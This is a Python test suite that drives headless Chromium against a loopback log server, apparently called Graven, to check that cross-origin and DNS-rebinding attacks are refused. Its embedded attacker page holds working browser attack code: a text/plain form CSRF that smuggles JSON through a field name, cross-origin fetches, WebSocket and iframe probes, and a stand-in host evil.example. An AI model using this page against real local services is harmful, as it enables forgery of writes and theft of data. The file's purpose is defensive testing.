"""What a page in a real browser (Debian's Chromium), on another port of this machine or of another site, gets from
a Graven on loopback: nothing. Between browser and server stands a proxy that writes down how each request ended."""
import http.server
import json
import os
import pathlib
import re
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import threading
import time
import unittest
import urllib.parse

import serving
from tiles import append

CHROMIUM = shutil.which("chromium")
# Names that only this browser resolves; to it they are sites on the internet.
EVIL = "evil.example"

ATTACKS = """<!doctype html><title>attacks</title><body><script>
const target = "TARGET";
const results = {};
const tell = (name, promise) => promise.then(
    value => { results[name] = String(value); }, error => { results[name] = "refused " + error.name; });
const event = JSON.stringify({eventId: "planted-" + location.port + "-" + Math.random(), actor: {id: "mallory"},
                              action: "a.b", occurredAt: "2026-01-02T03:04:05Z"});
const element = (tag, attributes) => new Promise((resolve, reject) => {
  const made = document.createElement(tag);
  made.onload = () => resolve("loaded");
  made.onerror = () => reject({name: "error"});
  Object.assign(made, attributes);
  document.body.append(made);
});
const post = (mode, type) => fetch(target + "/logs/default/events",
    {method: "POST", mode, headers: {"content-type": type}, body: event}).then(answer => answer.status);
const socket = () => new Promise((resolve, reject) => {
  const made = new WebSocket(target.replace("http", "ws") + "/logs/default/checkpoint");
  made.onopen = () => resolve("open");
  made.onerror = () => reject({name: "error"});
});
const events = () => new Promise((resolve, reject) => {
  const made = new EventSource(target + "/logs/default/checkpoint");
  made.onopen = () => resolve("open");
  made.onerror = () => reject({name: "error"});
});
const framed = () => new Promise(resolve => {
  const frame = document.createElement("iframe");
  frame.src = target + "/";
  // A frame that shows an error is somebody's as well: nobody may look into it. What counts is what was sent to it.
  frame.onload = () => {
    let inside;
    try { inside = frame.contentDocument.body.innerText; } catch (e) { inside = e.name; }
    resolve(inside);
  };
  document.body.append(frame);
});
const form = () => new Promise(resolve => {
  const frame = document.createElement("iframe");
  frame.name = "sink";
  document.body.append(frame);
  const made = document.createElement("form");
  made.method = "post"; made.enctype = "text/plain"; made.target = "sink";
  made.action = target + "/logs/default/events";
  const field = document.createElement("input");
  field.name = event.slice(0, -1) + ', "labels": [{"key": "a", "value": "'; field.value = '"}]}';
  made.append(field);
  document.body.append(made);
  made.submit();
  setTimeout(() => resolve("sent"), 1500);
});
const opened = () => new Promise(resolve => {
  const other = window.open(target + "/");
  setTimeout(() => resolve(other === null || other.closed ? "severed" : "still held"), 1500);
});
(async () => {
  await Promise.all([
    tell("read", fetch(target + "/logs/default/checkpoint").then(answer => answer.text())),
    tell("read opaque", fetch(target + "/logs/default/checkpoint", {mode: "no-cors"}).then(answer => answer.type)),
    tell("read missing", fetch(target + "/logs/nothere/checkpoint", {mode: "no-cors"}).then(answer => answer.type)),
    tell("image", element("img", {src: target + "/logs/default/tile/0/000"})),
    tell("script", element("script", {src: target + "/logs/default/checkpoint"})),
    tell("style", element("link", {rel: "stylesheet", href: target + "/"})),
    tell("write simple", post("no-cors", "text/plain")),
    tell("write json", post("cors", "application/json")),
    tell("socket", socket()), tell("events", events()), tell("frame", framed()), tell("form", form()),
    tell("open", opened()),
  ]);
  await fetch("/results", {method: "POST", body: JSON.stringify(results)});
})();
</script>"""


class Attacker:
    """The web server of the page; every host name leads to it."""

    def __init__(self):
        self.results = None
        self.page = b""
        self.arrived = threading.Event()
        outer = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self):
                body = outer.page if self.path == "/" else b""
                self.send_response(200 if body else 404)
                self.send_header("Content-Type", "text/html")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def do_POST(self):
                outer.results = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
                self.send_response(204)
                self.end_headers()
                outer.arrived.set()

            def log_message(self, *_):
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.server.server_port
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self):
        self.server.shutdown()
        self.server.server_close()


class RecordingProxy:
    """Passes every request on, one on a connection, and keeps (method, path, status, destination)."""

    def __init__(self, port):
        self.upstream = port
        self.seen = []
        self.listener = socket.create_server(("127.0.0.1", 0))
        self.port = self.listener.getsockname()[1]
        threading.Thread(target=self._accept, daemon=True).start()

    def _accept(self):
        while True:
            try:
                client, _ = self.listener.accept()
            except OSError:
                return
            threading.Thread(target=self._serve, args=(client,), daemon=True).start()

    def _serve(self, client):
        with client:
            raw = b""
            while b"\r\n\r\n" not in raw:
                piece = client.recv(65536)
                if not piece:
                    return
                raw += piece
            head, _, body = raw.partition(b"\r\n\r\n")
            length = re.search(rb"(?im)^content-length: *(\d+)", head)
            while length and len(body) < int(length[1]):
                body += client.recv(65536)
            head = re.sub(rb"(?im)^connection:.*\r\n", b"", head) + b"\r\nConnection: close\r\n\r\n"
            with socket.create_connection(("127.0.0.1", self.upstream)) as server:
                server.sendall(head + body)
                answer = b""
                try:
                    while piece := server.recv(65536):
                        answer += piece
                except OSError:
                    pass
            method, path = head.split(b" ", 2)[:2]
            destination = re.search(rb"(?im)^sec-fetch-dest: *([^\r]*)", head)
            site = re.search(rb"(?im)^sec-fetch-site: *([^\r]*)", head)
            self.seen.append((method.decode(), path.decode(), int(answer[9:12] or b"0"),
                              destination[1].decode() if destination else "",
                              site[1].decode() if site else ""))
            try:
                client.sendall(answer)
            except OSError:
                pass

    def close(self):
        self.listener.close()


class Browser:
    def __init__(self, folder, url):
        self.profile = tempfile.mkdtemp(dir=folder)
        self.process = subprocess.Popen(
            [CHROMIUM, "--headless=new", "--no-sandbox", "--disable-gpu", "--no-first-run",
             "--disable-popup-blocking", "--disable-dev-shm-usage", "--disable-component-update",
             # It is for the server to refuse, not for this browser's newest defences.
             "--disable-features=LocalNetworkAccessChecks,BlockInsecurePrivateNetworkRequests",
             f"--host-resolver-rules=MAP {EVIL} 127.0.0.1,MAP rebound.example 127.0.0.1",
             f"--user-data-dir={self.profile}", url],
            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)

    def __enter__(self):
        return self

    def __exit__(self, *_):
        os.killpg(self.process.pid, signal.SIGKILL)
        self.process.wait(timeout=30)


class BrowserAttacks(unittest.TestCase):
    def setUp(self):
        self.folder = serving.make_folder("http-browser")
        self.attacker = Attacker()

    def tearDown(self):
        self.attacker.close()
        shutil.rmtree(self.folder, ignore_errors=True)

    def start(self, *flags):
        server = serving.Server(self.folder, *flags)
        self.addCleanup(server.__exit__)
        append(server.address, 3, "honest")
        self.proxy = RecordingProxy(urllib.parse.urlsplit(server.ready["http"][0]).port)
        self.addCleanup(self.proxy.close)
        self.attacker.page = ATTACKS.replace("TARGET", f"http://127.0.0.1:{self.proxy.port}").encode()
        return server

    def visit(self, host):
        self.attacker.arrived.clear()
        with Browser(self.folder, f"http://{host}:{self.attacker.port}/"):
            self.assertTrue(self.attacker.arrived.wait(90), "the page did not report")
        return self.attacker.results

    def size(self, server):
        return json.loads(serving.run("checkpoint", "--json", "--server", server.address).stdout)["size"]

    def check_refused(self, host):
        server = self.start("--http", "127.0.0.1:0")
        results = self.visit(host)
        for attack in ("read", "read opaque", "read missing", "image", "script", "style", "write simple",
                       "write json", "socket", "events"):
            self.assertTrue(results[attack].startswith("refused"), (attack, results))
        self.assertNotIn("Graven", results["frame"])
        self.assertEqual(results["open"], "severed")
        # Whatever reached the server was refused, but for the page that one may link to, which then reads what is
        # its own, in a window that nobody else sees into.
        passed = [one for one in self.proxy.seen if one[2] == 200 and one[4] != "same-origin"]
        self.assertEqual({one[1:4] for one in passed}, {("/", 200, "document")}, self.proxy.seen)
        refused = [one for one in self.proxy.seen if one[2] != 200]
        self.assertGreaterEqual(len(refused), 9, self.proxy.seen)
        self.assertTrue(all(one[2] in (403, 405) for one in refused), refused)
        self.assertIn("iframe", {one[3] for one in refused})
        self.assertEqual(self.size(server), 3)

    def test_a_page_on_another_port_of_this_machine_gets_nothing(self):
        self.check_refused("127.0.0.1")

    def test_a_page_of_another_site_gets_nothing(self):
        self.check_refused(EVIL)

    def test_a_name_that_was_rebound_to_loopback_is_not_served(self):
        self.start("--http", "127.0.0.1:0")
        with Browser(self.folder, f"http://rebound.example:{self.proxy.port}/"):
            end = time.monotonic() + 60
            while not any(one[1] == "/" for one in self.proxy.seen):
                self.assertLess(time.monotonic(), end, "the browser did not come")
                time.sleep(0.1)
        self.assertEqual({one[2] for one in self.proxy.seen}, {421})

    def test_an_origin_that_is_configured_may_read_and_others_not(self):
        config = self.folder / "graven.toml"
        config.write_text('[http]\nlisten = ["127.0.0.1:0"]\n'
                          f'cors_origins = ["http://{EVIL}:{self.attacker.port}"]\n')
        self.start("--config", config)
        results = self.visit(EVIL)
        self.assertIn("\n3\n", results["read"])
        self.assertTrue(self.visit("127.0.0.1")["read"].startswith("refused"))


if __name__ == "__main__":
    if CHROMIUM is None:
        print("skipped: needs chromium (./dev install test)", file=sys.stderr)
        sys.exit(77)
    unittest.main(warnings="ignore")
